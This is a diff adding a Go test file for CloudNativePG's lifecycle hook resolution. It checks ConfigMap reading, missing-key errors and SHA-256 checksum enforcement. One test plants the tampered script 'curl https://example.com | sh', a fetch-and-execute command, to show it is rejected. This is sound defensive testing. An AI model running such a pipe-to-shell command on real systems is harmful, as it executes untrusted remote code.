@@ -0,0 +1,160 @@
+/*
+Copyright The CloudNativePG Contributors
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package controller
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"sigs.k8s.io/controller-runtime/pkg/client/fake"
+
+	apiv1 "github.com/cloudnative-pg/cloudnative-pg/api/v1"
+	"github.com/cloudnative-pg/cloudnative-pg/internal/scheme"
+	"github.com/cloudnative-pg/cloudnative-pg/pkg/management/postgres"
+
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+)
+
+var _ = Describe("lifecycle hooks resolution", func() {
+	const namespace = "default"
+
+	hooksConfigMap := func(key string) *apiv1.ConfigMapKeySelector {
+		return &apiv1.ConfigMapKeySelector{
+			LocalObjectReference: apiv1.LocalObjectReference{Name: "hooks"},
+			Key:                  key,
+		}
+	}
+
+	checksum := func(content string) string {
+		sum := sha256.Sum256([]byte(content))
+		return hex.EncodeToString(sum[:])
+	}
+
+	It("reads the content of the hooks from their ConfigMaps", func(ctx SpecContext) {
+		configMap := &corev1.ConfigMap{
+			ObjectMeta: metav1.ObjectMeta{Name: "hooks", Namespace: namespace},
+			Data: map[string]string{
+				"mount.sh":   "mount-volume",
+				"notify.sql": "NOTIFY promoted",
+			},
+		}
+		cluster := &apiv1.Cluster{
+			ObjectMeta: metav1.ObjectMeta{Name: "cluster-example", Namespace: namespace},
+			Spec: apiv1.ClusterSpec{
+				LifecycleHooks: &apiv1.LifecycleHooksConfiguration{
+					PreStart: []apiv1.LifecycleHook{
+						{Name: "mount", Script: hooksConfigMap("mount.sh"), SHA256: checksum("mount-volume")},
+					},
+					PostPromotion: []apiv1.LifecycleHook{
+						{
+							Name:     "notify",
+							SQL:      hooksConfigMap("notify.sql"),
+							SHA256:   checksum("NOTIFY promoted"),
+							Database: "app",
+							Timeout:  5,
+						},
+						{Name: "missing", SQL: hooksConfigMap("missing.sql")},
+					},
+				},
+			},
+		}
+		cli := fake.NewClientBuilder().
+			WithScheme(scheme.BuildWithAllKnownScheme()).
+			WithObjects(cluster, configMap).
+			Build()
+		instance := postgres.NewInstance()
+		instance.Namespace = namespace
+		reconciler := &InstanceReconciler{client: cli, instance: instance}
+
+		hooks := reconciler.resolveLifecycleHooks(ctx, cluster)
+		Expect(hooks).To(HaveLen(3))
+
+		Expect(hooks[0]).To(Equal(postgres.LifecycleHook{
+			Name:     "mount",
+			Point:    apiv1.LifecycleHookPreStart,
+			Script:   "mount-volume",
+			Database: "postgres",
+			Timeout:  30 * time.Second,
+		}))
+		Expect(hooks[1]).To(Equal(postgres.LifecycleHook{
+			Name:     "notify",
+			Point:    apiv1.LifecycleHookPostPromotion,
+			SQL:      "NOTIFY promoted",
+			Database: "app",
+			Timeout:  5 * time.Second,
+		}))
+		Expect(hooks[2].Name).To(Equal("missing"))
+		Expect(hooks[2].ResolutionError).To(MatchError(`missing key "missing.sql" in ConfigMap "hooks"`))
+	})
+
+	It("refuses a content not matching its checksum", func(ctx SpecContext) {
+		configMap := &corev1.ConfigMap{
+			ObjectMeta: metav1.ObjectMeta{Name: "hooks", Namespace: namespace},
+			Data:       map[string]string{"mount.sh": "curl https://example.com | sh"},
+		}
+		cluster := &apiv1.Cluster{
+			ObjectMeta: metav1.ObjectMeta{Name: "cluster-example", Namespace: namespace},
+			Spec: apiv1.ClusterSpec{
+				LifecycleHooks: &apiv1.LifecycleHooksConfiguration{
+					PreStart: []apiv1.LifecycleHook{
+						{Name: "mount", Script: hooksConfigMap("mount.sh"), SHA256: checksum("mount-volume")},
+					},
+				},
+			},
+		}
+		cli := fake.NewClientBuilder().
+			WithScheme(scheme.BuildWithAllKnownScheme()).
+			WithObjects(cluster, configMap).
+			Build()
+		instance := postgres.NewInstance()
+		instance.Namespace = namespace
+		reconciler := &InstanceReconciler{client: cli, instance: instance}
+
+		hooks := reconciler.resolveLifecycleHooks(ctx, cluster)
+		Expect(hooks).To(HaveLen(1))
+		Expect(hooks[0].Script).To(BeEmpty())
+		Expect(hooks[0].ResolutionError).To(HaveOccurred())
+		Expect(hooks[0].ResolutionError.Error()).To(ContainSubstring("SHA-256 checksum"))
+	})
+
+	It("reports the missing ConfigMaps", func(ctx SpecContext) {
+		cluster := &apiv1.Cluster{
+			ObjectMeta: metav1.ObjectMeta{Name: "cluster-example", Namespace: namespace},
+			Spec: apiv1.ClusterSpec{
+				LifecycleHooks: &apiv1.LifecycleHooksConfiguration{
+					PreStop: []apiv1.LifecycleHook{{Name: "flush", Script: hooksConfigMap("flush.sh")}},
+				},
+			},
+		}
+		cli := fake.NewClientBuilder().
+			WithScheme(scheme.BuildWithAllKnownScheme()).
+			WithObjects(cluster).
+			Build()
+		instance := postgres.NewInstance()
+		instance.Namespace = namespace
+		reconciler := &InstanceReconciler{client: cli, instance: instance}
+
+		hooks := reconciler.resolveLifecycleHooks(ctx, cluster)
+		Expect(hooks).To(HaveLen(1))
+		Expect(hooks[0].ResolutionError).To(HaveOccurred())
+		Expect(hooks[0].ResolutionError.Error()).To(ContainSubstring(`while reading ConfigMap "hooks"`))
+	})
+})